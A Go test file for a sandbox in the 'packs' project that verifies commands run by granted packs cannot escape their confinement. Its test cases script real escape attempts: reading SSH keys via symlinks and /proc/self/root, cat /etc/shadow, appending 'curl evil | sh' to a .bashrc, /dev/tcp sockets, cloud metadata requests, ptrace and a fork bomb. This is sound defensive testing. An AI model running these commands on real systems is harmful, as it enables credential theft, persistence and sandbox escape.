package hostfns

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/packs-run/packs/capability"
	"github.com/packs-run/packs/hostfns/confine"
)

// The attacks of a pack granted a native command, each tried through Exec,
// the one door every front end starts a command through
// (internal/gatecheck proves that). Each runs as the granted command would
// and must find nothing beyond its grant: the files, the network and the
// processes of the person stay out of reach.

// victim is what a person's machine holds outside any grant: a home with
// keys and packs' own state, another pack, a loopback service.
type victim struct {
	home, ssh, other string
	state            []string // packs.db, audit.key, token, secrets
	server           *httptest.Server
	port             string
}

func newVictim(t *testing.T) *victim {
	t.Helper()
	v := &victim{home: t.TempDir()}
	v.ssh = filepath.Join(v.home, ".ssh", "id_ed25519")
	v.other = filepath.Join(v.home, "packs", "other-pack", "SKILL.md")
	for _, f := range []string{v.ssh, v.other, "packs.db", "audit.key", "token", "secrets.json"} {
		p := f
		if !filepath.IsAbs(f) {
			p = filepath.Join(v.home, "packs-home", f)
			v.state = append(v.state, p)
		}
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte("VICTIM-"+filepath.Base(p)), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	v.server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		fmt.Fprint(w, "VICTIM-service")
	}))
	t.Cleanup(v.server.Close)
	_, v.port, _ = net.SplitHostPort(v.server.Listener.Addr().String())
	return v
}

// sh runs script with sh (granted) and whatever else is listed granted.
func sh(t *testing.T, req capability.Request, script string) (string, *Call, *memRecorder) {
	t.Helper()
	req.TerminalExec.Commands = append(req.TerminalExec.Commands, "sh")
	c, rec := newCall(t, req)
	res, err := Exec(context.Background(), c, []string{"sh", "-c", script}, ExecOptions{Timeout: 20 * time.Second})
	if err != nil && !errors.Is(err, ErrTimeout) {
		t.Fatalf("exec: %v", err)
	}
	return string(res.Stdout) + string(res.Stderr), c, rec
}

// TestConfinedFilesystem: writes outside the workspace and reads outside
// the pack, by every path form.
func TestConfinedFilesystem(t *testing.T) {
	v := newVictim(t)
	outside := t.TempDir()
	cases := []struct {
		name   string
		script string
		// the file that must not have been written, if any
		wrote string
		// what the output must not hold, beyond the victim's contents
		leak string
	}{
		{"write an absolute path", "touch " + outside + "/pwned", filepath.Join(outside, "pwned"), ""},
		{"write through ..", "cd $HOME && touch ../pwned-dotdot", "", ""},
		{"write through a planted symlink", "ln -s " + outside + " $HOME/out && echo x > $HOME/out/pwned-link", filepath.Join(outside, "pwned-link"), ""},
		{"write through /proc/self/root", "echo x > /proc/self/root" + outside + "/pwned-proc", filepath.Join(outside, "pwned-proc"), ""},
		{"append to ~/.bashrc-like files", "echo 'curl evil | sh' >> " + filepath.Join(v.home, ".bashrc"), filepath.Join(v.home, ".bashrc"), ""},
		{"read an ssh key", "cat " + v.ssh, "", ""},
		{"read an ssh key through a symlink", "ln -s " + v.ssh + " $HOME/key && cat $HOME/key", "", ""},
		{"read an ssh key through a hard link", "ln " + v.ssh + " $HOME/hard && cat $HOME/hard", "", ""},
		{"read an ssh key through /proc/self/root", "cat /proc/self/root" + v.ssh, "", ""},
		{"read packs' own state", "cat " + strings.Join(v.state, " "), "", ""},
		{"read another pack", "cat " + v.other, "", ""},
		{"list the home", "ls -laR " + v.home, "", "id_ed25519"},
		{"read /etc/shadow", "cat /etc/shadow", "", "root:"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			out, c, _ := sh(t, execReq("cat", "touch", "ln", "ls"), tc.script)
			if strings.Contains(out, "VICTIM-") || tc.leak != "" && strings.Contains(out, tc.leak) {
				t.Errorf("the command read what it was not granted:\n%s", out)
			}
			if tc.wrote != "" {
				if _, err := os.Stat(tc.wrote); !errors.Is(err, os.ErrNotExist) {
					t.Errorf("%s was written (%v):\n%s", tc.wrote, err, out)
				}
			}
			if _, err := os.Stat(filepath.Join(filepath.Dir(c.Workspace), "pwned-dotdot")); !errors.Is(err, os.ErrNotExist) {
				t.Errorf("wrote beside the workspace:\n%s", out)
			}
		})
	}
}

// TestConfinedFilesystemGranted: what the grant gives, the command has: its
// pack read-only, the workspace read-write, a granted read mount and a
// granted write mount.
func TestConfinedFilesystemGranted(t *testing.T) {
	ro, rw := t.TempDir(), t.TempDir()
	if err := os.WriteFile(filepath.Join(ro, "data.txt"), []byte("GRANTED-read"), 0o644); err != nil {
		t.Fatal(err)
	}
	req := execReq("cat")
	req.FilesystemRead = []string{ro}
	req.FilesystemWrite = []string{rw}
	out, c, _ := sh(t, req, `cat "$PWD/../pack/SKILL.md" 2>&1; cat `+ro+`/data.txt; echo ws > $HOME/w.txt; echo mount > `+rw+`/m.txt; echo t > $TMPDIR/t && cat $TMPDIR/t; echo pack > "$PWD/../pack/evil" || echo pack-readonly`)
	for _, want := range []string{"name: probe", "GRANTED-read", "t\n", "pack-readonly"} {
		if !strings.Contains(out, want) {
			t.Errorf("output lacks %q:\n%s", want, out)
		}
	}
	for _, f := range []string{filepath.Join(c.Workspace, "w.txt"), filepath.Join(rw, "m.txt")} {
		if _, err := os.Stat(f); err != nil {
			t.Errorf("the granted write of %s failed: %v\n%s", f, err, out)
		}
	}
}

// TestConfinedTmpIsPrivate: what one call drops in /tmp, /dev/shm or its
// TMPDIR is not there for the next.
func TestConfinedTmpIsPrivate(t *testing.T) {
	marker := "packs-drop-" + strconv.Itoa(os.Getpid())
	sh(t, execReq("cat"), "echo DROP > /tmp/"+marker+"; echo DROP > /dev/shm/"+marker+"; echo DROP > $TMPDIR/"+marker+"; echo $TMPDIR > $HOME/tmpdir")
	for _, p := range []string{"/tmp/" + marker, "/dev/shm/" + marker} {
		if _, err := os.Stat(p); err == nil {
			os.Remove(p)
			t.Errorf("%s was written outside the call", p)
		}
	}
	out, _, _ := sh(t, execReq("cat"), "cat /tmp/"+marker+" /dev/shm/"+marker+" $TMPDIR/"+marker)
	if strings.Contains(out, "DROP") {
		t.Errorf("a later call read the drop:\n%s", out)
	}
}

// TestConfinedNoNetwork: without a network grant nothing is reached, by
// name or by address, proxy variables or not.
func TestConfinedNoNetwork(t *testing.T) {
	v := newVictim(t)
	cases := map[string]string{
		"loopback":           "curl -sS --max-time 5 http://127.0.0.1:" + v.port + "/",
		"loopback by name":   "curl -sS --max-time 5 http://localhost:" + v.port + "/",
		"loopback over ipv6": "curl -sS --max-time 5 'http://[::ffff:127.0.0.1]:" + v.port + "/'",
		"a bash tcp socket":  "bash -c \"exec 3<>/dev/tcp/127.0.0.1/" + v.port + " && printf 'GET / HTTP/1.0\\r\\n\\r\\n' >&3 && cat <&3\"",
	}
	for name, script := range cases {
		t.Run(name, func(t *testing.T) {
			out, _, _ := sh(t, execReq("curl", "bash"), script)
			if strings.Contains(out, "VICTIM-") {
				t.Errorf("reached the loopback service:\n%s", out)
			}
		})
	}
	// Beyond the machine: a private address, the metadata address, a name.
	// The command's namespace has no route out, so each fails at once and
	// no packet leaves (these cases never ran unconfined: they would have
	// sent one).
	if !confine.Probe().Full() {
		return
	}
	for name, script := range map[string]string{
		"a private address":    "curl -sS --max-time 5 http://10.255.255.1/ && echo REACHED",
		"the metadata address": "curl -sS --max-time 5 http://169.254.169.254/latest/meta-data/ && echo REACHED",
		"a name through DNS":   "getent hosts example.com && echo RESOLVED; curl -sS --max-time 5 http://example.com/ && echo REACHED",
	} {
		t.Run(name, func(t *testing.T) {
			out, _, _ := sh(t, execReq("curl", "getent"), script)
			if strings.Contains(out, "REACHED") || strings.Contains(out, "RESOLVED") {
				t.Errorf("left the machine:\n%s", out)
			}
			if !strings.Contains(out, "curl:") {
				t.Errorf("curl did not run or did not fail:\n%s", out)
			}
		})
	}
}

// TestConfinedProcesses: the packs process cannot be signalled or traced;
// what a command forks dies with it.
func TestConfinedProcesses(t *testing.T) {
	self := strconv.Itoa(os.Getpid())
	out, _, _ := sh(t, execReq("kill"), "kill -0 "+self+" && echo SIGNALLED || echo refused")
	if !strings.Contains(out, "refused") {
		t.Errorf("the command could signal the packs process:\n%s", out)
	}
	out, _, _ = sh(t, execReq("python3"), `python3 -c 'import ctypes; print("ptrace", ctypes.CDLL(None, use_errno=True).ptrace(0x4206, `+self+`, 0, 0))'`)
	if !strings.Contains(out, "ptrace -1") {
		t.Errorf("ptrace attach to the packs process was not refused:\n%s", out)
	}
}

// TestConfinedForkBomb: a command that forks without end ends with its call
// and leaves no process behind.
func TestConfinedForkBomb(t *testing.T) {
	tag := "4242." + strconv.Itoa(os.Getpid())
	c, _ := newCall(t, execReq("sh"))
	_, err := Exec(context.Background(), c, []string{"sh", "-c", "i=0; while [ $i -lt 2000 ]; do sleep " + tag + " & i=$((i+1)); done; wait"},
		ExecOptions{Timeout: 3 * time.Second, Grace: 100 * time.Millisecond})
	if err != nil && !errors.Is(err, ErrTimeout) {
		t.Fatal(err)
	}
	deadline := time.Now().Add(5 * time.Second)
	for {
		left := processesWith(tag)
		if left == 0 {
			return
		}
		if time.Now().After(deadline) {
			t.Fatalf("%d processes of the bomb outlived its call", left)
		}
		time.Sleep(50 * time.Millisecond)
	}
}

// TestConfinedLeftoverStopsWriting: a command that leaves a child
// writing to the workspace (in a session of its own, holding none of the
// command's streams) returns, and from
// then on the file does not change: every process of the call was killed
// and reaped before Exec returned, not merely signalled (the supervisor's
// exit, reaped in the background, is no part of the call).
func TestConfinedLeftoverStopsWriting(t *testing.T) {
	if !confine.Probe().Full() {
		t.Skip("without namespaces leftovers die by process group, signalled as Exec returns")
	}
	c, _ := newCall(t, execReq("sh"))
	bg := filepath.Join(c.Workspace, "bg")
	for range 5 {
		res, err := Exec(context.Background(), c, []string{"sh", "-c",
			`setsid sh -c 'while :; do echo x >> "$HOME/bg"; done' </dev/null >/dev/null 2>&1 & while [ ! -s "$HOME/bg" ]; do :; done`},
			ExecOptions{Timeout: 10 * time.Second})
		if err != nil || res.ExitCode != 0 {
			t.Fatalf("= %+v, %v", res, err)
		}
		before, err := os.Stat(bg)
		if err != nil {
			t.Fatal(err)
		}
		time.Sleep(50 * time.Millisecond)
		after, err := os.Stat(bg)
		if err != nil {
			t.Fatal(err)
		}
		if after.Size() != before.Size() {
			t.Fatalf("%s grew from %d to %d bytes after Exec returned", bg, before.Size(), after.Size())
		}
	}
}

// processesWith counts the processes whose command line holds tag.
func processesWith(tag string) int {
	entries, _ := os.ReadDir("/proc")
	n := 0
	for _, e := range entries {
		if _, err := strconv.Atoi(e.Name()); err != nil {
			continue
		}
		b, err := os.ReadFile(filepath.Join("/proc", e.Name(), "cmdline"))
		if err == nil && strings.Contains(string(b), tag) {
			n++
		}
	}
	return n
}

// TestConfinedNetworkProxy: with a grant for one host and port, the command
// reaches it through packs' proxy (recorded) and nothing else: not another
// port, not another form of the address, not a redirect elsewhere, not a
// CONNECT to an address, not the metadata address, not around the proxy.
func TestConfinedNetworkProxy(t *testing.T) {
	v := newVictim(t)
	other := newVictim(t)
	redirect := httptest.NewServer(http.RedirectHandler("http://127.0.0.1:"+other.port+"/", http.StatusFound))
	t.Cleanup(redirect.Close)
	_, rport, _ := net.SplitHostPort(redirect.Listener.Addr().String())
	req := execReq("curl")
	req.Network = []string{"127.0.0.1:" + v.port, "127.0.0.1:" + rport}

	out, _, rec := sh(t, req, "curl -sS --max-time 5 http://127.0.0.1:"+v.port+"/granted")
	if !strings.Contains(out, "VICTIM-service") {
		t.Fatalf("the granted host was not reached through the proxy:\n%s", out)
	}
	requireRecorded(t, rec, capability.Network, "http://127.0.0.1:"+v.port+"/granted", true)

	denied := map[string]string{
		"another port":             "curl -sS --max-time 5 http://127.0.0.1:" + other.port + "/",
		"another form of loopback": "curl -sS --max-time 5 http://localhost:" + other.port + "/",
		"ipv6 loopback":            "curl -sS --max-time 5 'http://[::1]:" + other.port + "/'",
		"ipv4-mapped ipv6":         "curl -sS --max-time 5 'http://[::ffff:127.0.0.1]:" + other.port + "/'",
		"a redirect elsewhere":     "curl -sSL --max-time 5 http://127.0.0.1:" + rport + "/",
		"CONNECT to an address":    "curl -sS --max-time 5 -p http://127.0.0.1:" + other.port + "/",
		"the metadata address":     "curl -sS --max-time 5 http://169.254.169.254/latest/meta-data/",
		"around the proxy":         "curl -sS --max-time 5 --noproxy '*' http://127.0.0.1:" + v.port + "/",
	}
	for name, script := range denied {
		t.Run(name, func(t *testing.T) {
			out, _, _ := sh(t, req, script)
			if strings.Contains(out, "VICTIM-") {
				t.Errorf("reached what the grant does not name:\n%s", out)
			}
		})
	}
	t.Run("refusals are recorded", func(t *testing.T) {
		_, _, rec := sh(t, req, "curl -sS --max-time 5 http://127.0.0.1:"+other.port+"/x")
		requireRecorded(t, rec, capability.Network, "http://127.0.0.1:"+other.port+"/x", false)
	})
}

// TestConfinedFromGuest: a WebAssembly guest granted sh reaches, through
// the exec host function, no more than any other front end does.
func TestConfinedFromGuest(t *testing.T) {
	v := newVictim(t)
	outside := filepath.Join(t.TempDir(), "from-guest")
	c, _ := newCall(t, execReq("sh"))
	r := mustProbe(t, c, "exec", op{"op": "exec", "argv": []string{"sh", "-c", "cat " + v.ssh + "; touch " + outside}})
	var got ExecResponse
	if err := json.Unmarshal(r.Exec, &got); err != nil {
		t.Fatalf("exec response %q: %v", r.Exec, err)
	}
	if strings.Contains(got.Stdout+got.Stderr, "VICTIM-") || !strings.Contains(got.Stderr, "Permission denied") {
		t.Errorf("exec from the guest: %+v", got)
	}
	if _, err := os.Stat(outside); !errors.Is(err, os.ErrNotExist) {
		t.Errorf("the guest's command wrote %s", outside)
	}
}

// TestConfinedPackRootDir: a command may work in its pack root, which stays
// read-only; the workspace stays writable.
func TestConfinedPackRootDir(t *testing.T) {
	c, _ := newCall(t, execReq("sh"))
	res, err := Exec(context.Background(), c, []string{"sh", "-c", "pwd; cat SKILL.md; echo x > evil || echo read-only; echo ok > $HOME/out"}, ExecOptions{Dir: c.PackRoot})
	if err != nil {
		t.Fatal(err)
	}
	out := string(res.Stdout)
	if !strings.HasPrefix(out, c.PackRoot+"\n") || !strings.Contains(out, "name: probe") || !strings.Contains(out, "read-only") {
		t.Errorf("in the pack root: %q %q", out, res.Stderr)
	}
	if _, err := os.Stat(filepath.Join(c.Workspace, "out")); err != nil {
		t.Errorf("the workspace was not writable: %v", err)
	}
	if _, err := Exec(context.Background(), c, []string{"sh", "-c", "true"}, ExecOptions{Dir: "/etc"}); !errors.Is(err, ErrInvalidRequest) {
		t.Errorf("a working directory outside: %v, want ErrInvalidRequest", err)
	}
}
